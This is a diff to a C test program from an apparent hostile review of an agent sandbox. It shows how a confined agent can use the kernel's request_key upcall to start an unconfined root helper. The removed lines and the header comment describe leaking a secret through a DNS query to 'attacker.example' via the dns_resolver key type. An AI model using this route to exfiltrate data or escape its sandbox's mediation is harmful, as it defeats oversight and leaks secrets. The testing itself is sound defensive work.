@@ -1,4 +1,4 @@
-/* ha12-keyreq: hostile review h-attack12, the kernel's request_key upcall.
+/* key-upcall: the kernel's request_key upcall (hostile review h-attack12).
  *
  * The agent makes no socket call at all: request_key(2) with a callout
  * string makes the kernel, finding no such key, start /sbin/request-key as
@@ -6,17 +6,16 @@
  * namespaces, no seccomp filter, no Landlock domain, not in the agent's
  * tree) with the key's type and description and the callout string, all
  * chosen by the agent (security/keys/request_key.c, call_sbin_request_key:
- * no capability check upstream, as of v6.18.38). keyutils' stock
- * /etc/request-key.conf hands type "dns_resolver" to /sbin/key.dns_resolver,
- * which resolves the description through the host's resolver, so
- * request_key("dns_resolver", "<secret>.attacker.example", "", ...) is a DNS
- * query for the attacker's zone that no mediated call ever made.
+ * no capability check). keyutils' stock /etc/request-key.conf hands type
+ * "dns_resolver" to /sbin/key.dns_resolver, which resolves the description
+ * through the host's resolver: a DNS query for the attacker's zone that no
+ * mediated call made.
  *
- *   ha12-keyreq user SECRET     request_key("user", "ha12:SECRET", "SECRET")
- *   ha12-keyreq dns SECRET      request_key("dns_resolver",
- *                               "SECRET.attacker.example", "") -- never on a
- *                               host whose resolver reaches the Internet
- *   ha12-keyreq install DEST    root service (guest cell): copies itself to
+ *   key-upcall user SECRET      request_key("user", "ha12:SECRET", "SECRET")
+ *   key-upcall lookup SECRET    request_key("user", "ha12:SECRET", NULL): a
+ *                               lookup without a callout never starts a
+ *                               helper (the control: not trapped, ENOKEY)
+ *   key-upcall install DEST     root service (guest cell): copies itself to
  *                               /sbin/request-key as the stand-in helper
  *                               (keyutils is not installed there), writes
  *                               DEST to /etc/ha12-keyreq.dest, holds a UDP
@@ -166,13 +165,9 @@ int main(int argc, char **argv)
 	 * login gives; one inherited from another uid is not searchable. */
 	if (getenv("HA12_SAME_SESSION") == NULL)
 		keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0, 0, 0, 0);
-	if (strcmp(mode, "dns") == 0) {
-		snprintf(desc, sizeof(desc), "%s.attacker.example", arg);
-		rc = syscall(SYS_request_key, "dns_resolver", desc, "", KEY_SPEC_PROCESS_KEYRING);
-	} else {
-		snprintf(desc, sizeof(desc), "ha12:%s", arg);
-		rc = syscall(SYS_request_key, "user", desc, arg, KEY_SPEC_PROCESS_KEYRING);
-	}
+	snprintf(desc, sizeof(desc), "ha12:%s", arg);
+	rc = syscall(SYS_request_key, "user", desc, strcmp(mode, "lookup") == 0 ? NULL : arg,
+		     KEY_SPEC_PROCESS_KEYRING);
 	printf("agent uid %d: request_key(%s, %s) = %ld (%s)\n", getuid(), mode, desc, rc,
 	       rc < 0 ? strerror(errno) : "ok");
 	return 0;
